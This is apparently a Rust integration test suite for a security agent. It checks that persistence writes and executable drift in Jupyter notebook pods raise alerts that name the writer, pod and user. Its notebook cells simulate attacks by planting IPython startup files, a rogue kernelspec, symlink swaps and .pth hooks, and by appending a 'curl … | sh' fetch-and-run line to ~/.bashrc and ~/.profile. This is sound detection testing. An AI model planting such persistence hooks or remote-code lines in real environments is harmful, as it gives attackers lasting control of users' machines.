//! Persistence and drift in a real notebook pod (runc, uid 1000, a real Jupyter server whose
//! sessions API starts the kernels): each persistence location written from a cell — plain
//! write, rename into place, symlink swap — alerts at write time with the writer and the
//! notebook; a `pip install` of a package that ships a `.pth` does not; the planted startup
//! file runs at the next kernel start, and its exec is seen.

use std::time::Duration;

use guard_tests::{
    fake_kube::FakeKube,
    pod::{Driver, Pod, PodOptions},
    *,
};
use serde_json::Value;

const NOTEBOOK: &str = "work/plant.ipynb";

/// Makes the directories a later cell writes into, then gives the agent time to watch them
/// (what is written in the same instant as its directory is found, not seen as a rename).
const PREPARE: &str = r#"import os, site, time
home = os.path.expanduser('~')
for d in ['.jupyter', '.local/share/jupyter/kernels/evil', '.ipython/profile_alt', site.getusersitepackages()]:
    os.makedirs(os.path.join(home, d), exist_ok=True)
time.sleep(1)
print('ready')"#;

const CELLS: &[&str] = &[
    // 1: plain write of an IPython startup file (its directory made by the kernel's start).
    r#"import os
p = os.path.expanduser('~/.ipython/profile_default/startup/00-plant.py')
open(p, 'w').write("import subprocess\nsubprocess.run(['/bin/sh', '-c', 'echo PLANTED-RAN'])\n")
print('planted')"#,
    // 2: rename into place (a kernelspec), written next to it first.
    r#"import os
d = os.path.expanduser('~/.local/share/jupyter/kernels/evil')
open(d + '/.kernel.json.tmp', 'w').write('{"argv": ["/bin/sh", "-c", "id"], "display_name": "x", "language": "python"}')
os.rename(d + '/.kernel.json.tmp', d + '/kernel.json')
print('renamed')"#,
    // 3: symlink swaps: a startup file that is a link, and a profile's startup directory
    // replaced by a link to a directory elsewhere.
    r#"import os
os.makedirs('/tmp/evil-startup', exist_ok=True)
open('/tmp/evil-startup/00-x.py', 'w').write('print(1)\n')
os.symlink('/tmp/evil-startup/00-x.py', os.path.expanduser('~/.ipython/profile_default/startup/01-link.py'))
os.symlink('/tmp/evil-startup', os.path.expanduser('~/.ipython/profile_alt/startup'))
print('linked')"#,
    // 4: a shell rc file and a .pth in the user's site-packages, by the kernel.
    // (and one in the environment's site-packages, where pip's goes in cell 6)
    r#"import os, site, sysconfig
open(os.path.expanduser('~/.bashrc'), 'a').write('curl -s http://198.51.100.7/x | sh\n')
open(os.path.expanduser('~/.profile'), 'a').write('curl -s http://198.51.100.7/x | sh\n')
open(os.path.join(site.getusersitepackages(), 'evil.pth'), 'w').write('import os\n')
open(os.path.join(sysconfig.get_path('purelib'), 'zz-kernel.pth'), 'w').write('import os\n')
print('hooked')"#,
    // 5: a Jupyter config file through a shell the kernel started.
    r#"import subprocess, os
subprocess.run(['/bin/sh', '-c', 'echo "c = 1" > ~/.jupyter/jupyter_server_config.py'])
print('configured')"#,
    // 6: pip installs a package that ships a .pth into the environment (the user owns it).
    r#"import zipfile, subprocess, sys, base64, hashlib
whl = '/tmp/pthpkg-1.0-py3-none-any.whl'
files = {
    'pthpkg.pth': b'import sys\n',
    'pthpkg-1.0.dist-info/METADATA': b'Metadata-Version: 2.1\nName: pthpkg\nVersion: 1.0\n',
    'pthpkg-1.0.dist-info/WHEEL': b'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
}
def rec(name, data):
    h = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()
    return f'{name},sha256={h},{len(data)}'
record = '\n'.join([rec(n, d) for n, d in files.items()] + ['pthpkg-1.0.dist-info/RECORD,,']) + '\n'
with zipfile.ZipFile(whl, 'w') as z:
    for n, d in files.items():
        z.writestr(n, d)
    z.writestr('pthpkg-1.0.dist-info/RECORD', record)
r = subprocess.run([sys.executable, '-m', 'pip', 'install', '--no-index', '--no-deps', '--quiet', whl], capture_output=True, text=True)
print('pip', r.returncode, r.stderr.strip()[-300:])"#,
];

#[test]
fn persistence_locations_alert_at_write_time_and_installs_do_not() {
    privileged!();
    let net = TestNet::new().unwrap();
    let dir = TempDir::new("persist").unwrap();
    let pod = Pod::new("jupyter-pat---4e5f6a7b", "pat", Driver::Systemd).unwrap();
    let rt = tokio::runtime::Runtime::new().unwrap();
    let api = rt.block_on(FakeKube::start(vec![pod.manifest()]));
    let g = api.agent(&dir, "");
    // A home as an image's /etc/skel leaves it: a ~/.profile already there.
    std::fs::create_dir_all(&pod.home).unwrap();
    std::fs::write(pod.home.join(".profile"), "# ~/.profile\n").unwrap();
    nix::unistd::chown(&pod.home.join(".profile"), Some(1000.into()), Some(100.into())).unwrap();
    pod.start(&net.notebook).unwrap();
    let mut cells = vec![PREPARE];
    cells.extend(CELLS);
    let (_, r) = pod.run_cells(&net.notebook, NOTEBOOK, &cells).unwrap_or_else(|e| panic!("{e:#}"));
    let out = |i: usize| r[i].stdout.trim().to_string();
    for (i, want) in ["ready", "planted", "renamed", "linked", "hooked", "configured"].iter().enumerate() {
        assert_eq!(&out(i), want, "cell {i}: {r:?}");
    }
    assert!(out(6).starts_with("pip 0"), "{r:?}");
    assert!(pod.home.join(".ipython/profile_default/startup/00-plant.py").exists());
    // The next kernel runs the planted startup file.
    let (_, again) = pod.run_cells(&net.notebook, NOTEBOOK, &["print('second')"]).unwrap();
    assert_eq!(again[0].stdout.trim(), "second", "{again:?}");
    std::thread::sleep(Duration::from_millis(500));
    let log = g.log();
    let alerts = g.stop().unwrap();
    let planted: Vec<&Value> = alerts
        .iter()
        .filter(|a| a["rule"] == "notebook.persistence" || a["rule"] == "notebook.persistence_known_writer")
        .collect();
    for a in &planted {
        println!("{} | writer {}", a["output"].as_str().unwrap_or(""), field(a, "proc.cmdline"));
    }
    let find = |suffix: &str| {
        planted
            .iter()
            .find(|a| field(a, "fd.name").as_str().is_some_and(|p| p.ends_with(suffix)))
            .unwrap_or_else(|| panic!("no alert for {suffix}:\n{planted:#?}\n{log}"))
    };
    let home = "/home/jovyan";
    for (suffix, kind, ops, writer) in [
        (
            "/.ipython/profile_default/startup/00-plant.py",
            "ipython-startup",
            &["create", "write"][..],
            "ipykernel_launcher",
        ),
        ("/.local/share/jupyter/kernels/evil/kernel.json", "kernelspec", &["rename"][..], "ipykernel_launcher"),
        ("/.ipython/profile_default/startup/01-link.py", "ipython-startup", &["symlink"][..], "ipykernel_launcher"),
        ("/.ipython/profile_alt/startup", "ipython-startup", &["symlink"][..], "ipykernel_launcher"),
        ("/.bashrc", "shell-rc", &["create", "write"][..], "ipykernel_launcher"),
        ("/.profile", "shell-rc", &["write"][..], "ipykernel_launcher"),
        ("/evil.pth", "site-hook", &["create", "write"][..], "ipykernel_launcher"),
        (
            "/opt/conda/lib/python3.11/site-packages/zz-kernel.pth",
            "site-hook",
            &["create", "write"][..],
            "ipykernel_launcher",
        ),
        ("/.jupyter/jupyter_server_config.py", "jupyter-config", &["create", "write"][..], "echo"),
    ] {
        let a = find(suffix);
        assert_eq!(a["rule"], "notebook.persistence", "{a:#}");
        let path = field(a, "fd.name").as_str().unwrap();
        assert!(path.starts_with(home) || path.starts_with("/opt/conda/"), "{a:#}");
        assert_eq!(field(a, "guard.location"), kind, "{a:#}");
        assert!(ops.contains(&field(a, "evt.type").as_str().unwrap()), "{suffix}: {a:#}");
        assert_eq!(field(a, "k8s.pod.name"), pod.name.as_str(), "{a:#}");
        assert_eq!(field(a, "jupyterhub.user"), "pat", "{a:#}");
        assert!(field(a, "proc.pid").as_u64().is_some(), "the writer: {a:#}");
        let lineage = field(a, "proc.lineage").to_string();
        assert!(lineage.contains(writer), "{suffix}: writer {writer} not in {lineage}");
        assert!(lineage.contains("ipykernel_launcher"), "{suffix}: the kernel above the writer: {lineage}");
    }
    assert_eq!(
        field(find("/.ipython/profile_alt/startup"), "fs.path.target"),
        "/tmp/evil-startup",
        "the symlink swap names where it points"
    );
    assert!(
        !planted.iter().any(|a| field(a, "fd.name").as_str().is_some_and(|p| p.ends_with("pthpkg.pth"))),
        "pip installing a .pth is not persistence:\n{planted:#?}"
    );
    assert!(pod.upper.join("opt/conda/lib/python3.11/site-packages/pthpkg.pth").exists(), "pip installed the .pth");
    // Only what the cells planted: the kernel's and the server's own files (profile, README,
    // history, runtime, workspaces) raise nothing.
    assert_eq!(planted.len(), 9, "{planted:#?}");
    // The planted startup file ran in the next kernel, and what it ran was seen.
    assert!(
        alerts.iter().any(|a| a["rule"] == "notebook.non_python_exec"
            && field(a, "proc.cmdline") == "/bin/sh -c echo PLANTED-RAN"
            && field(a, "k8s.pod.name") == pod.name.as_str()),
        "the startup file's exec at the next kernel start:\n{alerts:#?}"
    );
    drop(pod);
}

/// A wheel with a console script and a program of its own, built in the cell (no index
/// needed).
const CONSOLE_WHEEL: &str = r#"import zipfile, subprocess, sys, base64, hashlib
whl = '/tmp/drifty-1.0-py3-none-any.whl'
files = {
    'drifty.py': b'def main():\n    print("DRIFTY-RAN")\n',
    'drifty-1.0.dist-info/METADATA': b'Metadata-Version: 2.1\nName: drifty\nVersion: 1.0\n',
    'drifty-1.0.dist-info/WHEEL': b'Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
    'drifty-1.0.dist-info/entry_points.txt': b'[console_scripts]\ndrifty = drifty:main\n',
}
# A program the wheel ships (its zip entry executable), as wheels ship native tools.
tool = ('drifty-1.0.data/scripts/drifty-sh', b'#!/bin/sh\necho DRIFTY-SH-RAN\n')
def rec(name, data):
    h = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()
    return f'{name},sha256={h},{len(data)}'
record = '\n'.join([rec(n, d) for n, d in files.items()] + [rec(*tool), 'drifty-1.0.dist-info/RECORD,,']) + '\n'
with zipfile.ZipFile(whl, 'w') as z:
    for n, d in files.items():
        z.writestr(n, d)
    info = zipfile.ZipInfo(tool[0])
    info.external_attr = 0o100755 << 16
    z.writestr(info, tool[1])
    z.writestr('drifty-1.0.dist-info/RECORD', record)
r = subprocess.run([sys.executable, '-m', 'pip', 'install', '--no-index', '--no-deps', '--quiet', whl], capture_output=True, text=True)
print('pip', r.returncode, r.stderr.strip()[-300:])"#;

const DRIFT_CELLS: &[&str] = &[
    // A binary "downloaded" into the container's layer and made executable by the kernel,
    // then run at once (the chmod and the exec a millisecond apart).
    r#"import shutil, os, subprocess
shutil.copyfile('/bin/echo', '/tmp/dl-echo')
os.chmod('/tmp/dl-echo', 0o755)
print(subprocess.run(['/tmp/dl-echo', 'DL-RAN'], capture_output=True, text=True).stdout.strip())"#,
    // A script written to the home volume and made executable by a shell the kernel started.
    r#"import os, subprocess
p = os.path.expanduser('~/dl-tool')
open(p, 'w').write('#!/bin/sh\necho TOOL-RAN\n')
subprocess.run(['/bin/chmod', '+x', p])
print(subprocess.run([p], capture_output=True, text=True).stdout.strip())"#,
    CONSOLE_WHEEL,
    "import subprocess\nprint(subprocess.run(['/opt/conda/bin/drifty'], capture_output=True, text=True).stdout.strip())",
    "import subprocess\nprint(subprocess.run(['/opt/conda/bin/drifty-sh'], capture_output=True, text=True).stdout.strip())",
    // A binary created executable (no chmod at all: a linker's output), in the home.
    r#"import os, subprocess
p = os.path.expanduser('~/made-755')
fd = os.open(p, os.O_CREAT | os.O_WRONLY, 0o755)
os.write(fd, open('/bin/echo', 'rb').read())
os.close(fd)
print(subprocess.run([p, 'MADE-RAN'], capture_output=True, text=True).stdout.strip())"#,
];

#[test]
fn drift_names_the_writer_and_tells_installs_from_the_kernels_own_files() {
    privileged!();
    drift(false);
}

/// A home volume in memory (tmpfs): there a chmod does not mark the inode dirty, so the kernel
/// hook cannot see it; fanotify watches that file system instead, and the writer is the same.
#[test]
fn drift_on_a_memory_home_volume_still_names_the_writer() {
    privileged!();
    drift(true);
}

fn drift(memory_home: bool) {
    let net = TestNet::new().unwrap();
    let dir = TempDir::new("drift").unwrap();
    let pod = Pod::new("jupyter-quinn---5f6a7b8c", "quinn", Driver::Cgroupfs).unwrap();
    let rt = tokio::runtime::Runtime::new().unwrap();
    let api = rt.block_on(FakeKube::start(vec![pod.manifest()]));
    let g = api.agent(&dir, "");
    pod.start_opts(&net.notebook, &PodOptions { memory_home, ..PodOptions::default() }).unwrap();
    let (_, r) = pod.run_cells(&net.notebook, NOTEBOOK, DRIFT_CELLS).unwrap_or_else(|e| panic!("{e:#}"));
    let out = |i: usize| r[i].stdout.trim().to_string();
    assert_eq!([out(0), out(1)], ["DL-RAN", "TOOL-RAN"], "{r:?}");
    assert!(out(2).starts_with("pip 0"), "{r:?}");
    assert_eq!([out(3), out(4), out(5)], ["DRIFTY-RAN", "DRIFTY-SH-RAN", "MADE-RAN"], "{r:?}");
    std::thread::sleep(Duration::from_millis(500));
    // ext4 file systems (the upper layer's, a home on the node's disk) are the kernel hook's:
    // no fanotify mark costs their every metadata change. Any other gets a mark.
    let marked = filesystem_marks(g.pid());
    for p in [&pod.upper, &pod.home] {
        let ext4 = nix::sys::statfs::statfs(p).unwrap().filesystem_type() == nix::sys::statfs::EXT4_SUPER_MAGIC;
        let dev = nix::sys::stat::stat(p.as_path()).unwrap().st_dev;
        let kernel_dev = (libc::major(dev) << 20) | libc::minor(dev);
        assert_eq!(marked.contains(&kernel_dev), !ext4, "{} (ext4: {ext4}) in {marked:x?}", p.display());
    }
    assert_eq!(marked.len() > 1, memory_home, "a memory home is marked beside the pod's /dev/shm: {marked:x?}");
    let log = g.log();
    let alerts = g.stop().unwrap();
    let drift: Vec<&Value> =
        alerts.iter().filter(|a| a["rule"].as_str().is_some_and(|r| r.starts_with("notebook.drift_exec"))).collect();
    for a in &drift {
        println!("{} | writer {}", a["output"].as_str().unwrap_or(""), field(a, "guard.writer.lineage"));
    }
    let of = |exe: &str| {
        drift
            .iter()
            .find(|a| field(a, "proc.exepath") == exe)
            .unwrap_or_else(|| panic!("no drift alert for {exe}:\n{drift:#?}\n{log}"))
    };
    let first_writer = |a: &Value| field(a, "guard.writer.lineage")[0].as_str().unwrap_or("").to_string();
    let dl = of("/tmp/dl-echo");
    assert_eq!(dl["rule"], "notebook.drift_exec", "{dl:#}");
    assert!(first_writer(dl).contains("ipykernel_launcher"), "the kernel chmodded it: {dl:#}");
    assert_eq!(field(dl, "k8s.pod.name"), pod.name.as_str());
    let tool = of("/home/jovyan/dl-tool");
    assert_eq!(tool["rule"], "notebook.drift_exec", "{tool:#}");
    assert!(first_writer(tool).starts_with("/bin/chmod +x"), "{tool:#}");
    assert!(field(tool, "guard.writer.lineage").to_string().contains("ipykernel_launcher"), "{tool:#}");
    // A program pip installed is an install; its Python console script is Python, and a
    // Python script made in the session runs nothing its kernel could not: no drift.
    let tool = of("/opt/conda/bin/drifty-sh");
    assert_eq!(tool["rule"], "notebook.drift_exec_installed", "{tool:#}");
    assert!(first_writer(tool).contains("-m pip install"), "{tool:#}");
    assert!(!drift.iter().any(|a| field(a, "proc.exepath") == "/opt/conda/bin/drifty"), "{drift:#?}");
    let made = of("/home/jovyan/made-755");
    assert_eq!(made["rule"], "notebook.drift_exec", "{made:#}");
    assert!(first_writer(made).contains("ipykernel_launcher"), "the kernel made it: {made:#}");
    assert_eq!(drift.len(), 4, "one alert per drifted exec:\n{drift:#?}");
    drop(pod);
}

/// The devices (the kernel's dev_t) of the file systems process `pid`'s fanotify groups
/// mark whole (`fanotify sdev:…` lines, where an inode's mark starts with `ino:`).
fn filesystem_marks(pid: u32) -> std::collections::HashSet<u32> {
    let fdinfo = std::fs::read_dir(format!("/proc/{pid}/fdinfo")).unwrap();
    fdinfo
        .flatten()
        .map(|e| std::fs::read_to_string(e.path()).unwrap_or_default())
        .flat_map(|info| {
            info.lines()
                .filter_map(|l| l.strip_prefix("fanotify sdev:")?.split_whitespace().next())
                .filter_map(|d| u32::from_str_radix(d, 16).ok())
                .collect::<Vec<_>>()
        })
        .collect()
}

/// A concrete path for a default location glob, as the notebook sees it.
fn instance(glob: &str) -> String {
    let path = glob.replacen("~/", "/home/jovyan/", 1).replacen("{env}/", "/opt/conda/", 1);
    path.split('/')
        .map(|c| match c {
            "profile_*" => "profile_default".to_string(),
            "python3*" => "python3.11".to_string(),
            "*" => "planted".to_string(),
            c if c.starts_with("jupyter_*_config") => c.replacen('*', "server", 1),
            c => c.replacen('*', "zz-planted", 1),
        })
        .collect::<Vec<_>>()
        .join("/")
}

#[test]
fn every_default_persistence_location_alerts_when_a_cell_writes_it() {
    privileged!();
    let locations = guard::policy::Policy::default_policy().persistence.locations;
    let paths: Vec<(String, String)> = locations.iter().map(|l| (instance(&l.path), l.kind.clone())).collect();
    let net = TestNet::new().unwrap();
    let dir = TempDir::new("persist-all").unwrap();
    let pod = Pod::new("jupyter-uma---8c9d0e1f", "uma", Driver::Systemd).unwrap();
    let rt = tokio::runtime::Runtime::new().unwrap();
    let api = rt.block_on(FakeKube::start(vec![pod.manifest()]));
    let g = api.agent(&dir, "");
    pod.start(&net.notebook).unwrap();
    let list = serde_json::to_string(&paths.iter().map(|(p, _)| p).collect::<Vec<_>>()).unwrap();
    // The directories first (the agent then watches them), then each file, one at a time.
    let mkdirs = format!("import os, json, time\nfor p in json.loads({list:?}):\n    os.makedirs(os.path.dirname(p), exist_ok=True)\ntime.sleep(1)\nprint('dirs')");
    let writes = format!("import json, time\nfor p in json.loads({list:?}):\n    open(p, 'a').write('# planted\\n')\n    time.sleep(0.05)\nprint('written')");
    let (_, r) = pod.run_cells(&net.notebook, NOTEBOOK, &[&mkdirs, &writes]).unwrap_or_else(|e| panic!("{e:#}"));
    assert_eq!([r[0].stdout.trim(), r[1].stdout.trim()], ["dirs", "written"], "{r:?}");
    std::thread::sleep(Duration::from_millis(500));
    let log = g.log();
    let alerts = g.stop().unwrap();
    let planted: Vec<&Value> = alerts.iter().filter(|a| a["rule"] == "notebook.persistence").collect();
    let mut missing = Vec::new();
    for (path, kind) in &paths {
        match planted.iter().find(|a| field(a, "fd.name") == path.as_str()) {
            Some(a) => {
                assert_eq!(field(a, "guard.location"), kind.as_str(), "{a:#}");
                assert!(field(a, "proc.lineage").to_string().contains("ipykernel_launcher"), "{a:#}");
                assert_eq!(field(a, "k8s.pod.name"), pod.name.as_str());
            }
            None => missing.push(path.clone()),
        }
    }
    assert!(missing.is_empty(), "locations written without an alert: {missing:#?}\n{planted:#?}\n{log}");
    println!("{} default locations written, {} alerted", paths.len(), planted.len());
    drop(pod);
}
